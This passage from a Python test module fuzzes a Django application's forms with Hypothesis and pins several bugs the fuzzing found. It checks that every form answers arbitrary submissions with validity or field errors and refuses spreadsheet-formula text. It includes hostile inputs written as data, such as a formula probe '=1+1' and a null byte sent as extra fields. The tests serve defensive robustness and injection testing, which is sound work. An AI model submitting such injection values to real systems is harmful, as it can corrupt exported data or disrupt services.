        one = st.decimals(
            min_value=least,
            max_value=most,
            places=places,
            allow_nan=False,
            allow_infinity=False,
        ).map(str)
    elif isinstance(form_field, forms.FloatField):
        one = st.floats(-1e6, 1e6).map(repr)
    elif isinstance(form_field, forms.DateTimeField):
        one = st.datetimes(
            min_value=dt.datetime(1990, 1, 1),  # noqa: DTZ001 - typed in UK time, as a person types it
            max_value=dt.datetime(2030, 12, 31),  # noqa: DTZ001
        ).map(lambda m: m.strftime("%Y-%m-%dT%H:%M"))
    elif isinstance(form_field, forms.DateField):
        one = st.dates(min_value=dt.date(1990, 1, 1), max_value=dt.date(2030, 12, 31)).map(dt.date.isoformat)
    elif isinstance(form_field, forms.RegexField):
        one = st.from_regex(form_field.regex, fullmatch=True).filter(lambda s: "\x00" not in s)
    elif isinstance(form_field, forms.EmailField):
        one = st.sampled_from(["sam.carer@example.org", "a@example.com"])
    elif isinstance(form_field, forms.UUIDField):
        one = st.uuids().map(str)  # an id as a page's hidden field or choice sends it
    elif isinstance(form_field, forms.CharField):
        one = _plain_text(min(form_field.max_length or 60, 60), required)
    else:
        one = st.just("")
    if not required and not isinstance(form_field, forms.BooleanField):
        one = st.one_of(st.just(""), one)
    return one.map(lambda value: [value])


def _hostile(form_field: Any, pks: list[str]) -> st.SearchStrategy[list[str]]:
    """Anything at all, and several values for one field."""
    value = st.one_of(HOSTILE, st.sampled_from(pks)) if pks else HOSTILE
    return st.one_of(value.map(lambda v: [v]), st.lists(value, max_size=4))


HOW = st.sampled_from(["good", "hostile", "hostile", "formula", "missing"])
# Answers for fields no form has, sent with every submission: ignored.
EXTRA_ANSWERS = {"csrfmiddlewaretoken": "x", "not_a_field": "=1+1", "": "\x00"}


@dataclass
class Built:
    """One way a page builds the form, with the strategies for each of its fields, made once (a strategy
    made afresh for every example costs more than the form's validation)."""

    form_class: type[forms.BaseForm]
    kwargs: dict[str, Any]
    fields: dict[str, forms.Field]
    good: dict[str, st.SearchStrategy[Any]]
    hostile: dict[str, st.SearchStrategy[Any]]

    def __repr__(self) -> str:
        return f"{_name(self.form_class)}({', '.join(f'{k}=...' for k in self.kwargs)})"


def _build(form_class: type[forms.BaseForm], case: Case, kwargs: dict[str, Any]) -> Built:
    form = case.make(form_class, None, None, kwargs)
    built = Built(form_class, kwargs, dict(form.fields), {}, {})
    form_field: Any
    for name, form_field in form.fields.items():
        offered: list[str] = []
        every: list[str] = []
        if isinstance(form_field, forms.ModelChoiceField):
            # The records the form offers, and ids of records it does not offer (another agency's, say).
            queryset: Any = form_field.queryset
            offered = [str(pk) for pk in queryset.values_list("pk", flat=True)[:20]]
            model: type[models.Model] = queryset.model
            every = [str(pk) for pk in model._default_manager.values_list("pk", flat=True)[:40]]
        if isinstance(form_field, forms.FileField):
            multiple = getattr(form_field.widget, "allow_multiple_selected", False)
            built.good[name] = st.lists(_uploads(True), min_size=1, max_size=3 if multiple else 1)
            built.hostile[name] = st.one_of(st.lists(_uploads(False), min_size=1, max_size=3), st.just([]))
        else:
            built.good[name] = _good(form_field, offered)
            built.hostile[name] = _hostile(form_field, every)
    return built


@st.composite
def submissions(draw: st.DrawFn, built: Built) -> tuple[QueryDict, MultiValueDict, set[str]]:
    """A POST and its files; and the fields given formula text, which the form must refuse."""
    polite = draw(st.booleans())
    data = QueryDict(mutable=True)
    files: MultiValueDict[str, Any] = MultiValueDict()
    formula_fields: set[str] = set()
    for name, form_field in built.fields.items():
        how = "good" if polite else draw(HOW)
        if isinstance(form_field, forms.FileField):
            chosen = draw(built.good[name] if how == "good" else built.hostile[name])
            if chosen:
                files.setlist(name, chosen)
            continue
        if how == "missing":
            continue
        if how == "formula":
            values = [draw(FORMULAS)]
        else:
            values = draw(built.good[name] if how == "good" else built.hostile[name])
        data.setlist(name, values)
        sent = values if isinstance(form_field, forms.MultipleChoiceField) else values[-1:]
        if any(is_formula_answer(value) for value in sent) and not isinstance(form_field, forms.BooleanField):
            formula_fields.add(name)
    for name, value in EXTRA_ANSWERS.items():
        data.setdefault(name, value)
    return data, files, formula_fields


# --- The checks -------------------------------------------------------------------------------------------


def _texts(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, list | tuple | set):
        return [text for item in value for text in _texts(item)]
    if isinstance(value, dict):
        return [text for item in value for text in _texts(item)]
    return []


def _field_rules(form: forms.BaseForm) -> None:
    """What a valid form accepted keeps each field's own rules."""
    form_field: Any
    for name, form_field in form.fields.items():
        value: Any = form.cleaned_data.get(name)
        if isinstance(form_field, forms.FileField):
            if form_field.required:
                assert value, f"{name} is required"
            continue
        if isinstance(form_field, forms.ModelMultipleChoiceField):
            queryset: Any = form_field.queryset
            offered = set(queryset.values_list("pk", flat=True))
            assert {item.pk for item in value} <= offered, f"{name} holds a record the form does not offer"
            assert value or not form_field.required
            continue
        if isinstance(form_field, forms.ModelChoiceField):
            if value is None:
                assert not form_field.required, f"{name} is required"
            else:
                chosen: Any = form_field.queryset
                assert chosen.filter(pk=value.pk).exists(), f"{name} is a record the form does not offer"
            continue
        if form_field.required and not isinstance(form_field, forms.BooleanField):
            assert value not in form_field.empty_values, f"{name} is required"
        try:
            form_field.validate(value)
            form_field.run_validators(value)
        except ValidationError as error:  # pragma: no cover - the assertion's message
            raise AssertionError(f"{name}={value!r} breaks its field's rules: {error.messages}") from None
        if isinstance(form_field, forms.DateTimeField) and value is not None:
            assert isinstance(value, dt.datetime) and value.tzinfo is not None, f"{name} is not an aware time"
        elif isinstance(form_field, forms.DateField) and value is not None:
            assert isinstance(value, dt.date), f"{name} is not a date"
        for text in _texts(value):
            assert "\x00" not in text, f"{name} holds a null character"


def _check(built: Built, case: Case, data: QueryDict, files: MultiValueDict, formula_fields: set[str]) -> bool:
    form = case.make(built.form_class, data, files, built.kwargs)
    valid = form.is_valid()  # never raises, whatever was sent
    assert isinstance(valid, bool)
    assert valid == (not form.errors)
    for name, messages in form.errors.items():
        assert name == NON_FIELD_ERRORS or name in form.fields, f"an error about {name}, not a field of the form"
        assert messages and all(str(message).strip() for message in messages), f"an error on {name} with no words"
    if isinstance(form, FormulaRefusingForm):
        for name, value in form.cleaned_data.items():
            # An upload's file name is not an answer: it is kept as the file's name, and every CSV that shows it
            # neutralises it (``spreadsheet.cell_safe``), as "-draft.csv" is a fair name for a file.
            if name in case.formula_exempt or isinstance(form.fields.get(name), forms.FileField):
                continue
            for text in _texts(value):
                assert not is_formula_answer(text), f"{name} accepted formula text {text[:40]!r}"
        refused = formula_fields - set(case.formula_exempt)
        assert refused <= set(form.errors), f"formula text accepted in {sorted(refused - set(form.errors))}"
    if valid:
        _field_rules(form)
        case.rules(form)
    return valid


@pytest.mark.parametrize("form_name", sorted(EVERY_FORM))
def test_a_form_answers_any_submission_with_valid_or_errors_beside_its_fields(db, form_name):
    form_class, case = FORMS[form_name], EVERY_FORM[form_name]
    world = World()
    variants = [_build(form_class, case, kwargs) for kwargs in case.variants(world)]
    assert variants
    outcomes = {True: 0, False: 0}

    @FUZZ
    @given(st.data())
    def fuzz(data: st.DataObject) -> None:
        built = data.draw(st.sampled_from(variants), label="variant")
        submission, files, formula_fields = data.draw(submissions(built), label="submission")
        outcomes[_check(built, case, submission, files, formula_fields)] += 1

    fuzz()
    # Both outcomes were reached, so the rules on what a valid form accepts were checked too.
    if FUZZ.max_examples >= 200 and any(built.fields for built in variants):
        assert outcomes[False] > 0
        assert outcomes[True] > 0, f"no valid submission of {form_name} was generated"


# --- Bugs the fuzzing found, each pinned ------------------------------------------------------------------


def test_a_year_of_birth_too_large_for_a_date_is_refused_beside_the_year(db):
    """It raised OverflowError (a server error) from the date of birth page."""
    from joinedup.children.forms import DateOfBirthForm

    form = DateOfBirthForm({"year": "99999999999999999999", "reason": "x"}, child=ChildFactory.create())

    assert not form.is_valid()
    assert list(form.errors) == ["year"]


def test_a_long_answer_of_digits_ending_in_a_letter_is_checked_at_once():
    """The formula check backtracked quadratically over such an answer: 200,000 characters held the worker for
    minutes, the largest a page accepts (2.5 MB) for hours. Now linear: a 2.5 MB answer is checked at once."""
    answer = "-" + "1" * 2_500_000 + "a"

    assert is_formula_answer(answer)
    assert not is_formula_answer("-" + "1" * 2_500_000)


def test_an_agency_id_too_large_for_the_database_is_refused_beside_its_field(db):
    """A list of agencies (the handling conditions' agencies) with such an id raised OverflowError on SQLite (a
    server error); an id that is no agency's is refused as one of no choice."""
    from joinedup.mace.forms import MinutesForm

    agency = AgencyFactory.create()
    form = MinutesForm({"handling_code": "P", "condition_agencies": [str(agency.pk), "9" * 30]})

    assert not form.is_valid()
    assert list(form.errors) == ["condition_agencies"]
